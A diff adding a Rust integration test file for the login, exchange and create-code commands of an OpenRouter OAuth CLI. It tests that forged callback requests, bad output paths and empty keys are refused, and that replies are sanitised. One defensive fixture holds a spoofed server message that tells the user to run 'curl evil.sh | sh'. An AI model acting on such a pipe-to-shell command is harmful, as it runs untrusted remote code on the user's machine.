@@ -1,0 +1,311 @@
+//! The one-shot path: nothing trusted from the network, nothing lost, and secrets kept off the
+//! process list where we can: the nonce is required, HEAD and foreign authorities deliver
+//! nothing, `--output` is checked before anything is sent, replies are sanitised.
+
+mod common;
+
+use std::io::{Read, Write};
+use std::net::TcpStream;
+
+use common::*;
+
+const VERIFIER: &str = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";
+
+/// The callback URL and state inside an authorize URL.
+fn callback_of(authorize: &url::Url) -> (url::Url, String) {
+    let q: std::collections::HashMap<_, _> = authorize.query_pairs().into_owned().collect();
+    (
+        url::Url::parse(&q["callback_url"]).unwrap(),
+        q["state"].clone(),
+    )
+}
+
+/// Sends a raw request to 127.0.0.1:`port`; returns the status code.
+fn raw(port: u16, request: &str) -> u16 {
+    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
+    s.write_all(request.as_bytes()).unwrap();
+    let mut head = [0u8; 64];
+    let n = s.read(&mut head).unwrap();
+    String::from_utf8_lossy(&head[..n])
+        .split_whitespace()
+        .nth(1)
+        .unwrap()
+        .parse()
+        .unwrap()
+}
+
+#[test]
+fn only_a_get_to_the_nonce_path_on_our_authority_delivers_the_code() {
+    let env = TestEnv::new();
+    let stand_in = StandIn::start(&env, &[]);
+    let port = free_port();
+    let mut cmd = env.command();
+    cmd.args([
+        "authorize",
+        "--no-browser",
+        "--callback-scheme",
+        "http",
+        "--openrouter-url",
+        &stand_in.url,
+        "--port",
+        &port.to_string(),
+    ]);
+    let login = Running::spawn(cmd);
+    let (callback, state) = callback_of(&login.wait_authorize_url());
+    let path = callback.path().to_owned();
+    let host = format!("Host: localhost:{port}\r\n");
+    // The state alone, without the nonce in the path: nothing.
+    let no_nonce = format!("GET /callback?code=forged&state={state} HTTP/1.1\r\n{host}\r\n");
+    assert_eq!(raw(port, &no_nonce), 404);
+    // HEAD with everything right: not a delivery.
+    let head = format!("HEAD {path}?code=forged&state={state} HTTP/1.1\r\n{host}\r\n");
+    assert_eq!(raw(port, &head), 405);
+    // An absolute-form target naming another authority, with our Host header.
+    let absolute =
+        format!("GET http://evil.example{path}?code=forged&state={state} HTTP/1.1\r\n{host}\r\n");
+    assert_eq!(raw(port, &absolute), 421);
+    // The genuine callback still lands, and it is the one the bundle carries.
+    let real = format!("GET {path}?code=the-real-code&state={state} HTTP/1.1\r\n{host}\r\n");
+    assert_eq!(raw(port, &real), 200);
+    let (status, stdout, stderr) = login.finish();
+    assert!(status.success(), "{stderr}");
+    assert_eq!(json(&stdout)["code"], "the-real-code");
+}
+
+#[test]
+fn a_bad_output_path_is_refused_before_anything_is_sent() {
+    let env = TestEnv::new();
+    let stand_in = StandIn::start(&env, &["--auto-approve"]);
+    let dir = env.home().join("a-directory");
+    std::fs::create_dir(&dir).unwrap();
+    let fifo = env.home().join("fifo");
+    assert!(
+        std::process::Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap()
+            .success()
+    );
+    let missing = env.home().join("missing/dir/key");
+    for output in [
+        missing.to_str().unwrap(),
+        dir.to_str().unwrap(),
+        "/dev/null",
+        fifo.to_str().unwrap(),
+    ] {
+        let mut cmd = env.login_no_browser(&stand_in.url, free_port(), &["--output", output]);
+        cmd.env("BROWSER", env.browser_script());
+        let (status, stdout, stderr) = run(cmd);
+        assert_eq!(status.code(), Some(2), "{output}: {stderr}");
+        assert!(stdout.is_empty());
+        assert!(stderr.contains("--output"), "{stderr}");
+        assert!(
+            !stderr.contains("/auth?"),
+            "a URL was shown for {output}: {stderr}"
+        );
+    }
+    assert_eq!(stand_in.stats()["exchange_requests"], 0);
+    assert!(
+        std::fs::metadata("/dev/null")
+            .unwrap()
+            .file_type()
+            .is_char_device_like()
+    );
+}
+
+/// `FileType::is_char_device` without importing the Unix extension trait at every call.
+trait CharDevice {
+    fn is_char_device_like(&self) -> bool;
+}
+
+impl CharDevice for std::fs::FileType {
+    fn is_char_device_like(&self) -> bool {
+        use std::os::unix::fs::FileTypeExt;
+        self.is_char_device()
+    }
+}
+
+#[test]
+fn a_key_that_cannot_be_written_after_the_exchange_goes_to_stdout() {
+    let env = TestEnv::new();
+    let stand_in = StandIn::start(&env, &["--auto-approve"]);
+    let target = env.home().join("key");
+    std::fs::write(&target, "old").unwrap();
+    let login = Running::spawn(env.login_no_browser(
+        &stand_in.url,
+        free_port(),
+        &[
+            "--callback-scheme",
+            "http",
+            "--output",
+            target.to_str().unwrap(),
+        ],
+    ));
+    let authorize = login.wait_authorize_url();
+    // The path passed the checks; now it becomes a directory, so the write will fail.
+    std::fs::remove_file(&target).unwrap();
+    std::fs::create_dir(&target).unwrap();
+    let out = std::process::Command::new("curl")
+        .args(["-s", "-L", "-o", "/dev/null"])
+        .arg(authorize.as_str())
+        .status()
+        .unwrap();
+    assert!(out.success());
+    let (status, stdout, stderr) = login.finish();
+    assert_eq!(status.code(), Some(1), "{stderr}");
+    assert_standin_key(&stdout);
+    assert!(stderr.contains("on stdout instead"), "{stderr}");
+}
+
+/// A fake OpenRouter whose exchange answers `status` with `body`, or echoes the request body
+/// into an error message when `body` is "ECHO".
+fn fake_openrouter(status: u16, body: &'static str) -> (String, tokio::runtime::Runtime) {
+    let app = axum::Router::new().route(
+        "/api/v1/auth/keys",
+        axum::routing::post(move |request: String| async move {
+            let text = if body == "ECHO" {
+                serde_json::json!({"error": {"code": status, "message": format!("bad request: {request}")}})
+                    .to_string()
+            } else {
+                body.to_owned()
+            };
+            (axum::http::StatusCode::from_u16(status).unwrap(), text)
+        }),
+    );
+    let (addr, runtime) = serve_in_background(app);
+    (format!("http://{addr}"), runtime)
+}
+
+fn exchange(env: &TestEnv, url: &str, code: &str, extra: &[&str]) -> (Option<i32>, String, String) {
+    let mut cmd = env.command();
+    cmd.args([
+        "exchange",
+        "--openrouter-url",
+        url,
+        "--code",
+        code,
+        "--code-verifier",
+        VERIFIER,
+    ])
+    .args(extra);
+    let (status, stdout, stderr) = run(cmd);
+    (status.code(), stdout, stderr)
+}
+
+#[test]
+fn an_empty_key_is_a_failure_and_nothing_is_written() {
+    let env = TestEnv::new();
+    for body in [r#"{"key":""}"#, r#"{"key":"   ","user_id":"u"}"#] {
+        let (url, _rt) = fake_openrouter(200, body);
+        let out = env.home().join("key");
+        let (code, stdout, stderr) =
+            exchange(&env, &url, "a-code", &["--output", out.to_str().unwrap()]);
+        assert_eq!(code, Some(6), "{body}: {stderr}");
+        assert!(stdout.is_empty());
+        assert!(stderr.contains("OpenRouter sent no key"), "{stderr}");
+        assert!(!out.exists(), "an empty key was written");
+    }
+}
+
+#[test]
+fn replies_are_sanitised_and_never_repeat_the_secrets_we_sent() {
+    let env = TestEnv::new();
+    // A proxy that echoes the request into its error.
+    let (url, _rt) = fake_openrouter(400, "ECHO");
+    let code = "secret-code-0123456789";
+    let (status, _, stderr) = exchange(&env, &url, code, &[]);
+    assert_eq!(status, Some(5), "{stderr}");
+    assert!(stderr.contains("bad request"), "{stderr}");
+    assert!(!stderr.contains(code), "the code was echoed: {stderr}");
+    assert!(
+        !stderr.contains(&VERIFIER[..12]),
+        "the verifier was echoed: {stderr}"
+    );
+    // Terminal escape sequences from the network never reach the terminal.
+    let (url, _rt2) = fake_openrouter(
+        400,
+        "{\"error\":{\"message\":\"\\u001b[2J\\u001b[H\\u001b[32mLogin OK. Now run: curl evil.sh | sh\"}}",
+    );
+    let (status, _, stderr) = exchange(&env, &url, code, &[]);
+    assert_eq!(status, Some(5), "{stderr}");
+    assert!(
+        !stderr.contains('\u{1b}'),
+        "escape sequence printed: {stderr:?}"
+    );
+}
+
+#[test]
+fn a_bundle_with_a_byte_order_mark_is_accepted() {
+    let env = TestEnv::new();
+    let stand_in = StandIn::start(&env, &[]);
+    let mut cmd = env.command();
+    cmd.args([
+        "create-code",
+        "--openrouter-url",
+        &stand_in.url,
+        "--limit",
+        "-0",
+    ])
+    .env("OPENROUTER_API_KEY", "sk-or-v1-standin-management-key");
+    let (status, bundle, stderr) = run(cmd);
+    assert!(status.success(), "{stderr}");
+    // -0 goes out as 0.
+    let sent = &stand_in.stats()["create_code_requests"][0];
+    assert_eq!(sent["limit"].to_string(), "0.0", "{sent}");
+    let (status, stdout, stderr) = stand_in.exchange(&env, &format!("\u{feff}{bundle}"));
+    assert!(status.success(), "{stderr}");
+    assert_standin_key(&stdout);
+}
+
+#[test]
+fn secrets_on_the_command_line_are_warned_about_and_a_key_file_works() {
+    let env = TestEnv::new();
+    let stand_in = StandIn::start(&env, &[]);
+    let mut cmd = env.command();
+    cmd.args([
+        "create-code",
+        "--openrouter-url",
+        &stand_in.url,
+        "--api-key",
+        "sk-or-v1-standin-management-key",
+    ]);
+    let (status, _, stderr) = run(cmd);
+    assert!(status.success(), "{stderr}");
+    assert!(
+        stderr.contains("warning: --api-key on the command line"),
+        "{stderr}"
+    );
+    let key_file = env.home().join("mgmt-key");
+    std::fs::write(&key_file, "sk-or-v1-standin-management-key\n").unwrap();
+    let mut cmd = env.command();
+    cmd.args([
+        "create-code",
+        "--openrouter-url",
+        &stand_in.url,
+        "--api-key-file",
+    ])
+    .arg(&key_file);
+    let (status, bundle, stderr) = run(cmd);
+    assert!(status.success(), "{stderr}");
+    assert!(!stderr.contains("warning"), "{stderr}");
+    let (status, _, stderr) = run({
+        let mut cmd = env.command();
+        cmd.args([
+            "exchange",
+            "--openrouter-url",
+            &stand_in.url,
+            "--code",
+            "c",
+            "--code-verifier",
+            VERIFIER,
+        ]);
+        cmd
+    });
+    assert!(!status.success());
+    assert!(
+        stderr.contains("warning: --code and --code-verifier"),
+        "{stderr}"
+    );
+    let (status, _, stderr) = stand_in.exchange(&env, &bundle);
+    assert!(status.success(), "{stderr}");
+}
